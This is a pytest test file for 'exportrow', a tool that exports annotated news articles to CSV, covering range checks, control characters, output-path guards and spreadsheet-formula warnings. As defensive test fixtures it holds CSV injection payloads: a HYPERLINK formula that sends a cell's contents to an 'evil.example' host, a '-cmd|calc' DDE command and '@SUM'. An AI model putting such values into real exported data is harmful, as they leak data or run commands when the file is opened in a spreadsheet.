"""What `exportrow check` accepts, every command can use: numbers beyond 2**53, control characters in an article,
and the messages for a blank required field, a huge -p whole number and empty or unsafe --out paths."""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import FIXTURES

from exportrow.annotations import load_annotation
from exportrow.article import ArticleFormatError, load_article
from exportrow.errors import ExportrowError

STEM = "example-gazette-2021-03-03-freedonia-sylvania-fishing"
ARTICLE, ANNOTATION = FIXTURES / f"{STEM}.txt", FIXTURES / f"{STEM}.yaml"


def run(*args, cwd=None):
    return subprocess.run([sys.executable, "-m", "exportrow.cli", *map(str, args)], capture_output=True, text=True,
                          cwd=cwd)


def variant(tmp_path: Path, article_pairs=(), annotation_pairs=()) -> tuple[Path, Path]:
    """The fixture article and annotation, as ``a.txt`` and ``a.yaml``, with these replacements (the hash follows)."""
    text = ARTICLE.read_text(encoding="utf-8")
    for old, new in article_pairs:
        text = text.replace(old, new)
    article = tmp_path / "a.txt"
    article.write_text(text, encoding="utf-8")
    sha = hashlib.sha256(article.read_bytes()).hexdigest()
    doc = ANNOTATION.read_text(encoding="utf-8")
    for old, new in annotation_pairs:
        assert old in doc, old
        doc = doc.replace(old, new)
    lines = []
    for line in doc.splitlines():
        if line.strip().startswith("sha256:"):
            line = line.split("sha256:")[0] + f"sha256: {sha}"
        if line.strip().startswith("file:"):
            line = line.split("file:")[0] + "file: a.txt"
        lines.append(line)
    annotation = tmp_path / "a.yaml"
    annotation.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return article, annotation


def with_total(tmp_path: Path, total: str) -> tuple[Path, Path]:
    """The fixture article and annotation with the total figure (90) stated as ``total``."""
    sentence = "There were 90 seizures"
    new = sentence.replace("90", total)
    return variant(tmp_path, [(sentence, new)], [("value: 90", f"value: {total}"), (sentence, new)])


BEYOND = ("figures[seizures_total].value: 99999999999999999999999999999 is beyond the 9,007,199,254,740,992 accepted "
          "either side of 0 (2**53, the largest whole number the tables and charts hold exactly)")


def test_check_refuses_a_figure_beyond_2_53_and_so_does_every_command(tmp_path):
    article, annotation = with_total(tmp_path, "99999999999999999999999999999")
    res = run("check", annotation)
    assert res.returncode == 1
    assert BEYOND in res.stderr
    assert "fix: check `value:`; if the article really states such a number, leave the figure out and list its " \
           "words under ignored_numbers with a reason" in res.stderr
    for args in (["tables", "--article", article, "--annotation", annotation, "--out", tmp_path / "t"],
                 ["view", article, "--annotation", annotation, "--out", tmp_path / "v.html"]):
        res = run(*args)
        assert res.returncode == 1 and BEYOND in res.stderr, res.stderr
        assert "OverflowError" not in res.stderr and "internal error" not in res.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.txt", "a.yaml"]


def test_a_figure_of_exactly_2_53_reaches_the_tables_exactly(tmp_path):
    article, annotation = with_total(tmp_path, "9007199254740992")
    assert run("check", annotation).returncode == 0
    res = run("tables", "--article", article, "--annotation", annotation, "--out", tmp_path / "t")
    assert res.returncode == 0, res.stderr
    rows = (tmp_path / "t" / "figures.csv").read_text().splitlines()
    row = next(ln for ln in rows if ln.startswith("seizures_total"))
    assert row.split(",")[2] == "9007199254740992"
    ann = load_annotation(annotation, load_article(article))
    assert ann.figures[0]["value"] == 2 ** 53


@pytest.mark.parametrize("value", ["-9007199254740993", "1.0e+400", ".inf"])
def test_check_refuses_other_values_out_of_range(tmp_path, value):
    _, annotation = with_total(tmp_path, "90")
    text = annotation.read_text(encoding="utf-8").replace("value: 90", f"value: {value}", 1)
    annotation.write_text(text, encoding="utf-8")
    res = run("check", annotation)
    assert res.returncode == 1 and "figures[seizures_total].value:" in res.stderr
    assert "is beyond the 9,007,199,254,740,992 accepted either side of 0" in res.stderr


def test_a_nul_in_the_article_is_refused_at_load_naming_file_line_and_fix(tmp_path):
    text = ARTICLE.read_text(encoding="utf-8").replace("There were 90", "There were\x00 90")
    article = tmp_path / "nul.txt"
    article.write_text(text, encoding="utf-8")
    line = text[:text.index("\x00")].count("\n") + 1
    column = text.index("\x00") - text.rindex("\n", 0, text.index("\x00"))
    with pytest.raises(ArticleFormatError) as err:
        load_article(article)
    assert str(err.value) == (
        f"{article}, line {line}, column {column}: the article holds the control character U+0000 (NUL), which "
        "is not text; fix: delete it (an editor may show it as ^@ or <0x00>) and save the file as plain UTF-8 "
        r"text, e.g. tr -d '\000-\010\013\014\016-\037' < nul.txt > nul-clean.txt")
    res = run("extract", article, "--out", tmp_path / "draft.yaml")
    assert res.returncode == 1 and f"line {line}, column {column}" in res.stderr and "U+0000 (NUL)" in res.stderr
    assert not (tmp_path / "draft.yaml").exists()  # no draft carrying the NUL


def test_the_fix_the_message_suggests_cleans_the_article(tmp_path):
    text = ARTICLE.read_text(encoding="utf-8").replace("There were 90", "There\x0c were\x1b 90")
    article = tmp_path / "ff.txt"
    article.write_text(text, encoding="utf-8")
    with pytest.raises(ArticleFormatError, match=r"U\+000C \(form feed\) \(and 1 more\)"):
        load_article(article)
    clean = tmp_path / "ff-clean.txt"
    with open(article, "rb") as src, open(clean, "wb") as dst:
        subprocess.run(["tr", "-d", r"\000-\010\013\014\016-\037"], stdin=src, stdout=dst, check=True)
    assert load_article(clean).raw == ARTICLE.read_text(encoding="utf-8")


def test_tabs_and_windows_line_breaks_are_still_text(tmp_path):
    article = tmp_path / "crlf.txt"
    article.write_bytes(ARTICLE.read_text(encoding="utf-8").replace("There were", "There\twere")
                        .replace("\n", "\r\n").encode("utf-8"))
    assert load_article(article).title == load_article(ARTICLE).title


def test_a_nul_in_an_annotation_is_named_with_its_line_not_as_indentation(tmp_path):
    annotation = tmp_path / "nul.yaml"
    text = ANNOTATION.read_text(encoding="utf-8").replace("value: 90", "value: 9\x000")
    annotation.write_text(text, encoding="utf-8")
    line = text[:text.index("\x00")].count("\n") + 1
    res = run("check", annotation)
    assert res.returncode == 1
    assert f"file: line {line}: holds the control character U+0000, which is not text (YAML does not accept it)" \
        in res.stderr
    assert "fix: delete it (an editor may show it as ^@ or <0x00>)" in res.stderr and "indentation" not in res.stderr


def test_a_blank_required_field_is_not_told_to_delete_the_line(tmp_path):
    annotation = tmp_path / f"{STEM}.yaml"
    text = ANNOTATION.read_text(encoding="utf-8")
    first_cue = next(ln for ln in text.splitlines() if ln.strip().startswith("cue:"))
    annotation.write_text(text.replace(first_cue, first_cue.split("cue:")[0] + 'cue: ""', 1), encoding="utf-8")
    (tmp_path / ARTICLE.name).write_bytes(ARTICLE.read_bytes())
    res = run("check", annotation)
    assert res.returncode == 1
    assert "cue: is blank\n    fix: write text after `cue:`; the field is required (write e.g. `cue: argues`)" \
        in res.stderr
    assert "delete the line" not in res.stderr


def test_a_huge_whole_number_parameter_is_too_large_with_the_range():
    res = run("report", "--notebooks", "03", "-p", "min_word_count", "99999999999999999999999", "--out",
              "/nonexistent-never-written")
    assert res.returncode == 2
    assert "-p min_word_count '99999999999999999999999': too large (23 digits; a whole number here is between " \
           "-999999999999999999 and 999999999999999999); allowed: a whole number, at least 1" in res.stderr
    assert "not a whole number" not in res.stderr


def test_view_with_an_empty_out_says_it_is_empty(tmp_path):
    res = run("view", "--out", "", cwd=tmp_path)
    assert res.returncode == 2 and res.stderr.strip() == "error: --out is empty; name the file to write"
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("out, message", [
    ("", "error: --out is empty; name a folder, e.g. --out reports/agreement"),
    ("~", "error: --out ~: that is your home folder; choose a folder of its own, e.g. --out reports/agreement"),
    ("/", "error: --out /: that is the root of the file system"),
])
def test_agree_out_follows_the_rule_of_every_other_command(tmp_path, out, message):
    home = tmp_path / "home"
    home.mkdir()
    coder_b = FIXTURES / f"{STEM}.coder-b.yaml"
    res = subprocess.run([sys.executable, "-m", "exportrow.cli", "agree", str(ANNOTATION), str(coder_b), "--out", out],
                         capture_output=True, text=True, cwd=tmp_path, env={**os.environ, "HOME": str(home)})
    assert res.returncode == 2 and res.stderr.strip().startswith(message), res.stderr
    assert list(home.iterdir()) == [] and sorted(p.name for p in tmp_path.iterdir()) == ["home"]


def test_agree_out_in_the_library_follows_the_rule_too(tmp_path):
    from exportrow.agreement import agreement

    result = agreement([ANNOTATION, FIXTURES / f"{STEM}.coder-b.yaml"], n_boot=100)
    with pytest.raises(ExportrowError, match="that is the project's notebooks/ folder"):
        result.write(Path(__file__).parents[1] / "notebooks")
    assert [p.name for p in result.write(tmp_path / "ag")] == ["agreement.csv", "coverage.csv", "disagreements.csv",
                                                               "confusion.csv"]


FORMULA_FIX = ("fix: exportrow keeps the text as written (the tables are the record); open the CSV files as text "
               "(README: Data dictionary, \"Opening the CSV files in a spreadsheet\"), or remove the sign if the "
               "article does not have it")


def test_check_warns_about_text_a_spreadsheet_would_run_and_the_tables_keep_it_verbatim(tmp_path):
    sentence = "There were 90 seizures from 2018 to this February"
    article, annotation = variant(
        tmp_path, [(sentence, "@SUM(1+1) " + sentence)],
        [(f"quote: {sentence}", f'quote: "@SUM(1+1) {sentence}"'),
         ("name: Freedonian government", 'name: "=HYPERLINK(\\"http://evil\\",\\"b\\")"'),
         ("description: Sylvania tightens", 'description: "-cmd|calc" # Sylvania tightens')])
    res = run("check", annotation)
    assert res.returncode == 0, res.stderr
    warnings = [ln.replace(f"{tmp_path}/", "") for ln in res.stderr.splitlines() if ln.startswith("warning:")
                and "spreadsheet" in ln]
    assert warnings == [
        "warning: a.yaml: actors[fr_gov].name: starts with '=', so a spreadsheet that opens actors.csv may run it "
        "as a formula",
        "warning: a.yaml: figures[seizures_total].quote: starts with '@', so a spreadsheet that opens figures.csv "
        "may run it as a formula",
        "warning: a.yaml: statements[counts_within_total].quote: starts with '@', so a spreadsheet that opens the "
        "report's CSV files may run it as a formula",
        "warning: a.yaml: events[rules_tightened].description: starts with '-', so a spreadsheet that opens "
        "events.csv may run it as a formula",
        "warning: a.yaml: events[seizures_period].quote: starts with '@', so a spreadsheet that opens events.csv "
        "may run it as a formula"]
    assert res.stderr.count(FORMULA_FIX) == 5
    tables = run("tables", "--article", article, "--annotation", annotation, "--out", tmp_path / "t")
    assert tables.returncode == 0, tables.stderr
    # review 5, finding 18: tables and report warn as check does (the report links its CSV files for download)
    said = [ln.replace(f"{tmp_path}/", "") for ln in tables.stderr.splitlines() if ln.startswith("warning:")]
    assert said == warnings
    assert tables.stderr.count(FORMULA_FIX) == 5
    from exportrow.report import formula_warnings

    shown = formula_warnings({"article_path": str(article), "annotation_path": str(annotation)})
    assert ["warning: " + w.splitlines()[0].replace(f"{tmp_path}/", "") for w in shown] == warnings
    import pandas as pd

    def table(name, key):
        return pd.read_csv(tmp_path / "t" / f"{name}.csv", dtype=str, keep_default_na=False).set_index(key)

    assert table("actors", "actor_id").name["fr_gov"] == '=HYPERLINK("http://evil","b")'  # the record, verbatim
    assert table("figures", "figure_id").quote["seizures_total"] == f"@SUM(1+1) {sentence}"
    assert table("events", "event_id").description["rules_tightened"] == "-cmd|calc"


def test_check_tables_and_report_warn_about_an_outlet_a_spreadsheet_would_run(tmp_path):
    # review 11c, F6: the article's outlet starts events.csv's publication row ("<outlet> publishes the article")
    outlet = '=HYPERLINK("http://evil.example/?"&A1)'
    article, annotation = variant(tmp_path, [(" , The Example Gazette , ", f" , {outlet} , ")])
    assert load_article(article).outlet == outlet
    said = ("warning: a.yaml: article.outlet: the article's outlet (front matter / --outlet; here the capture's date "
            f"line) '{outlet}' starts with '=', so a spreadsheet that opens events.csv may run its publication row's "
            "description as a formula")
    res = run("check", annotation)
    assert res.returncode == 0, res.stderr
    assert [ln.replace(f"{tmp_path}/", "") for ln in res.stderr.splitlines() if "article.outlet" in ln] == [said]
    assert "fix: write the outlet's name without the sign" in res.stderr
    tables = run("tables", "--article", article, "--annotation", annotation, "--out", tmp_path / "t")
    assert tables.returncode == 0, tables.stderr
    assert [ln.replace(f"{tmp_path}/", "") for ln in tables.stderr.splitlines() if "article.outlet" in ln] == [said]
    import pandas as pd

    events = pd.read_csv(tmp_path / "t" / "events.csv", dtype=str, keep_default_na=False).set_index("event_id")
    assert events.description["publication"] == f"{outlet} publishes the article"  # the record, verbatim
    from exportrow.report import formula_warnings

    shown = formula_warnings({"article_path": str(article), "annotation_path": str(annotation)})
    assert ["warning: " + w.splitlines()[0].replace(f"{tmp_path}/", "") for w in shown] == [said]
    # --outlet on the command line: the same warning, naming where the outlet came from
    (tmp_path / "p").mkdir()
    plain, plain_yaml = variant(tmp_path / "p")
    opt = run("tables", "--article", plain, "--annotation", plain_yaml, "--outlet", "@Gazette", "--out", tmp_path / "u")
    assert opt.returncode == 0, opt.stderr
    assert ("article.outlet: the article's outlet (front matter / --outlet; here set by the user, overriding the "
            "capture) '@Gazette' starts with '@'") in opt.stderr
    assert "article.outlet" not in run("check", plain_yaml).stderr


def test_the_worksheet_csv_keeps_its_guard(tmp_path):
    article, annotation = variant(tmp_path, [("Freedonia argues that", "=Freedonia argues that")])
    assert run("check", annotation).returncode == 0
    sheet = tmp_path / "sheet.csv"
    assert run("worksheet", annotation, "--format", "csv", "--out", sheet).returncode == 0
    cells = [c for row in __import__("csv").reader(sheet.open(encoding="utf-8")) for c in row]
    assert any(c.startswith("'=Freedonia argues") for c in cells)
    assert not any(c.startswith("=") for c in cells)


def test_the_readme_says_how_to_open_the_csv_files_safely():
    readme = (Path(__file__).parents[1] / "README.md").read_text(encoding="utf-8")
    section = readme.split("**Opening the CSV files in a spreadsheet.**", 1)[1].split("<!-- dictionary:start", 1)[0]
    for words in ("`=`, `+`, `-`, `@`", "*Column type* to *Text*", "*Data Type* to *Text*",
                  "untick *Convert text to numbers, dates, and formulas*", "`exportrow check` warns"):
        assert words in " ".join(section.split()), words
